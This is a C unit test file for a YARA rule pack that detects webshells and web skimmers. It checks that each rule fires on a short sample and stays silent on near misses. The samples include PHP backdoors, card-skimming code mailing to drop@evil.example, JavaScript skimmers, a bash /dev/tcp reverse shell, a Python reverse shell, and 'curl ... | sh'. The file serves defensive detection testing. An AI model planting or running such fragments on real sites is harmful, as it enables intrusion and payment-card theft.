/*
 * The rules of packs/yara: each fires on a fragment of its own shape, and none on near misses.
 * The fragments are cut so that they do nothing.
 */
#include "detect/tamper/yara.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "base/buffer.h"
#include "base/io.h"
#include "event/json.h"

#define A20  "QUJDREVGR0hJSktMTU5P"
#define A100 A20 A20 A20 A20 A20
#define A400 A100 A100 A100 A100

static const struct {
        const char *rule, *text;
} samples[] = {
        {"php_eval_of_request", "<?php @eval ( base64_decode( $_POST['x']));"},
        {"php_call_of_request", "<?php $_GET['a']($_POST['b']);"},
        {"php_command_of_request", "<?php echo shell_exec( @$_REQUEST['c']);"},
        {"php_shell_by_name", "<?php $default_action = 'FilesMan';"},
        {"php_tries_every_command_function", "<?php $c=$_GET['c']; if(function_exists('system'))system($c); "
                                             "elseif(function_exists('exec'))exec($c);"
                                             "elseif(is_callable(\"passthru\"))passthru($c);"},
        {"php_password_before_command",
         "<?php if (md5($_POST['p']) === '0123456789abcdef0123456789abcdef') { eval($x); }"},
        {"php_machine_tour",
         "<?php echo php_uname(); posix_getpwuid(1); ini_get('disable_functions'); disk_free_space('/');"
         "passthru($_POST['c']);"},
        {"php_reverse_shell", "<?php $s=fsockopen($h,$p); proc_open('/bin/sh -i', $d, $pp);"},
        {"php_preload_bypass", "<?php putenv('LD_PRELOAD=/tmp/x'); mail('a','b','c');"},
        {"php_behind_image_header", "GIF89a<?php eval($x);"},
        {"image_metadata_program", "\xff\xd8\xff\xe1 Exif /.*/e eval(base64_decode('"},
        {"php_runs_image_metadata",
         "<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'],$e['Model'],'');"},
        {"php_tiny_back_door", "<?php $f=$_GET['f']; $f(1);"},
        {"php_encoded_payload", "<?php eval(gzinflate(base64_decode('" A400 "')));"},
        {"php_globals_in_escapes", "<?php ${\"\\x47\\x4c\\x4fB\\x41LS\"}['a']=1;"},
        {"php_include_in_escapes", "<?php @include \"\\057va\\162/www/\\x66avicon.ico\";"},
        {"php_uploader", "<form method=post enctype=\"multipart/form-data\"><?php "
                         "copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);"},
        {"php_cookie_back_door", "<?php $p=$_COOKIE; $k=array(); $k[3]($k[1]($p['a']));  $q[0]($q[1]);"},
        {"wordpress_runs_stored_text", "<?php eval(base64_decode(get_option('x')));"},
        {"wordpress_hidden_administrator",
         "<?php wp_create_user('a','b'); $u->set_role('administrator'); add_action('pre_user_query','h');"},
        {"wordpress_hidden_plugin",
         "<?php /* Plugin Name: X */ add_filter('all_plugins','h'); unset($p[plugin_basename(__FILE__)]);"},
        {"php_writes_php_into_uploads", "<?php file_put_contents($d.'uploads/x.php', base64_decode($x));"
                                        " $y='wp-content/uploads/x.php';"},
        {"php_card_to_file", "<?php $l=$_POST['card_number'].$_POST['cvv']; fwrite($f,$l);"},
        {"php_card_to_mail", "<?php $x=$card_no.$cvv; mail('drop@evil.example','x',$x);"},
        {"php_whole_form_to_image", "<?php file_put_contents('img/a.jpg', json_encode($_POST), 8);"},
        {"php_seals_form_with_public_key",
         "<?php $k='-----BEGIN PUBLIC KEY-----'; openssl_public_encrypt(json_encode($_POST),$o,$k); "
         "fwrite($f,$o);"},
        {"php_sends_form_to_stranger", "<?php $d=base64_encode(serialize($_POST)); curl_exec($c);"},
        {"php_waits_for_checkout", "<?php "
                                   "if(strpos($_SERVER['REQUEST_URI'],'checkout')!==false){file_put_contents("
                                   "$f,json_encode($_POST));}"},
        {"js_harvests_fields",
         "document.querySelectorAll('input, select');x=btoa(JSON.stringify(o));new Image().src=x"},
        {"js_waits_for_checkout",
         "if(location.href.indexOf('/checkout')>0){s=document.createElement('script');s.src=atob(x)}"},
        {"js_host_in_disguise", "s.src='https://googietagmanager.example/gtm.js'"},
        {"js_obfuscator", "var _0x1a2b=['a'];(function(){_0x1a2b['push'](_0x1a2b['shift']());}())"},
        {"js_runs_what_a_socket_sends", "w=new WebSocket(u);w.onmessage=function(e){eval(e.data)}"},
        {"js_hides_from_developers",
         "if(window.outerWidth - window.innerWidth>160)return;x=btoa(f.card_number.value)"},
        {"js_hoards_cards", "localStorage.setItem('x',btoa(f.card_number.value+f.cvv.value))"},
        {"svg_runs_hidden_script", "<svg xmlns='x' onload=\"eval(atob('x'))\"/>"},
        {"database_plants_script",
         "CREATE TRIGGER t BEFORE UPDATE ON o FOR EACH ROW SET NEW.body = '<script src=x>'; UPDATE"},
        {"shell_reverse_connection", "bash -i >& /dev/tcp/host.example/4444 0>&1"},
        {"python_reverse_connection",
         "s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"},
        {"perl_command_page", "#!/usr/bin/perl\nuse CGI; $c=param('c'); system($c);"},
        {"fetch_and_run", "curl -s http://203.0.113.9/x | sh"},
        {"survives_by_cron", "(crontab -l; echo '* * * * * x') | crontab -"},
        {"coin_miner", "{\"algo\": \"x\", \"url\": \"stratum+tcp://x\"}"},
        {"settings_run_images", "AddType application/x-httpd-php .jpg\n"},
};

static const char *const near_misses[] = {
        "<?php $name = trim($_POST['name']); evaluate($name); $this->assert($x);",
        "<?php if (md5($_POST['token']) === $expected) { save(); }",
        "<?php if (function_exists('exec') && function_exists('shell_exec')) { run_backup(); }",
        "<?php $s = fsockopen('mail.example', 25); fwrite($s, 'HELO');",
        "<?php $tmp = $_FILES['f']['tmp_name']; move_uploaded_file($tmp, $safe_name);",
        "<?php setcookie('a', $_COOKIE['a']); $rows[0]($x);",
        "<?php $exif = exif_read_data($file); preg_replace('/x/', '', $exif['Make']);",
        "<?php $v = get_option('x'); echo base64_decode($v);",
        "<?php wp_insert_user($data); $user->set_role('subscriber');",
        "<?php $form->add('card_number')->add('cvv'); $gateway->charge($form->getData());",
        "<?php mail($to, 'order', $body); $card_number = null; $cvv = null;",
        "<?php $b = base64_encode(file_get_contents($logo)); curl_exec($ch);",
        "\xff\xd8\xff\xe1 Exif Canon /.*/ evaluation",
        "document.querySelectorAll('input, select').forEach(validate); fetch('/pay')",
        "var ws=new WebSocket(u);ws.onmessage=function(e){render(JSON.parse(e.data))}",
        "s.src='https://www.googletagmanager.com/gtm.js';t='https://www.google-analytics.com/a.js'",
        "localStorage.setItem('cart', JSON.stringify(items)); cardNumberField.focus()",
        "var _0x=1; x['push'](y['shift']());",
        "<svg xmlns='x' onload=\"init()\"/>",
        "CREATE TABLE t (body text); INSERT INTO t VALUES ('<script src=\"/a.js\"></script>');",
        "curl -s https://get.example/install | sh",
        "#!/usr/bin/perl\nsystem('ls');",
        "AddType application/x-httpd-php .php .phtml\nAddType image/jpeg .jpg\n",
        "crontab -l > backup",
};

static struct content_rules *rules;

static int load(void **state _unused_) {
        _cleanup_(freep) char *error = NULL;
        int r = content_rules_load("packs", &rules, &error);
        if (r < 0)
                print_error("%s\n", error ?: strerror(-r));
        return r;
}

static int unload(void **state _unused_) {
        content_rules_free(rules);
        return 0;
}

static struct view view_of(const char *text) {
        return (struct view){(const unsigned char *)text, strlen(text)};
}

static bool has_rule(const json_t *indicators, const char *name) {
        size_t i;
        json_t *indicator;
        json_array_foreach (indicators, i, indicator)
                if (!strcmp(json_get_string(indicator, "rule"), name))
                        return true;
        return false;
}

static void every_rule_fires(void **state _unused_) {
        for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
                json_t *indicators = json_array();
                assert_int_equal(rules_match(rules, view_of(samples[i].text), view_of(""), indicators), 0);
                if (!has_rule(indicators, samples[i].rule))
                        fail_msg("%s does not fire", samples[i].rule);
                json_decref(indicators);
        }
        assert_int_equal(content_rules_count(rules), ARRAY_SIZE(samples));
}

static void none_fires_on_near_misses(void **state _unused_) {
        for (size_t i = 0; i < ARRAY_SIZE(near_misses); i++) {
                json_t *indicators = json_array();
                assert_int_equal(rules_match(rules, view_of(near_misses[i]), view_of(""), indicators), 0);
                if (json_array_size(indicators))
                        fail_msg("%s fires on %s", json_get_string(json_array_get(indicators, 0), "rule"),
                                 near_misses[i]);
                json_decref(indicators);
        }
}

/* Each rule says what it means, how grave it is and which technique it shows. */
static void every_rule_explains_itself(void **state _unused_) {
        for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
                json_t *indicators = json_array();
                rules_match(rules, view_of(samples[i].text), view_of(""), indicators);
                size_t k;
                json_t *indicator;
                json_array_foreach (indicators, k, indicator) {
                        const char *severity = json_get_string(indicator, "severity");
                        assert_true(!strcmp(severity, "critical") || !strcmp(severity, "high"));
                        assert_int_equal(json_get_string(indicator, "technique")[0], 'T');
                        assert_string_not_equal(json_get_string(indicator, "detail"), samples[i].rule);
                }
                json_decref(indicators);
        }
}

static void what_stood_there_is_not_new(void **state _unused_) {
        json_t *indicators = json_array();
        rules_match(rules, view_of("<?php eval($_POST['x']); // a"), view_of("<?php eval($_POST['x']);"),
                    indicators);
        assert_int_equal(json_array_size(indicators), 0);
        json_decref(indicators);
}

/* Both ends of a large file are looked at. */
static void the_end_of_a_large_file(void **state _unused_) {
        size_t size = (size_t)17 << 20;
        char *data = calloc(1, size);
        memset(data, 'a', size);
        memcpy(data + size - 40, "<?php eval($_POST['x']);", 24);
        json_t *indicators = json_array();
        rules_match(rules, (struct view){(unsigned char *)data, size}, view_of(""), indicators);
        assert_true(has_rule(indicators, "php_eval_of_request"));
        json_decref(indicators);
        free(data);
}

static void a_mistake_has_a_place(void **state _unused_) {
        char directory[] = "/tmp/yara-test-XXXXXX", path[64];
        struct content_rules *wrong = NULL;
        _cleanup_(freep) char *error = NULL;
        assert_non_null(mkdtemp(directory));
        assert_int_equal(content_rules_load(directory, &wrong, &error), -ENOENT);
        snprintf(path, sizeof(path), "%s/yara", directory);
        assert_int_equal(mkdir(path, 0700), 0);
        snprintf(path, sizeof(path), "%s/yara/x.yar", directory);
        FILE *file = fopen(path, "w");
        fputs("rule a { condition: false }\nrule b { condition: $x }\n", file);
        fclose(file);
        assert_int_equal(content_rules_load(directory, &wrong, &error), -EBADMSG);
        assert_non_null(error);
        assert_int_equal(strncmp(error, "x.yar:2: ", 9), 0);
        unlink(path);
        snprintf(path, sizeof(path), "%s/yara", directory);
        rmdir(path);
        rmdir(directory);
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(every_rule_fires),           cmocka_unit_test(none_fires_on_near_misses),
                cmocka_unit_test(every_rule_explains_itself), cmocka_unit_test(what_stood_there_is_not_new),
                cmocka_unit_test(the_end_of_a_large_file),    cmocka_unit_test(a_mistake_has_a_place),
        };
        return cmocka_run_group_tests(tests, load, unload);
}
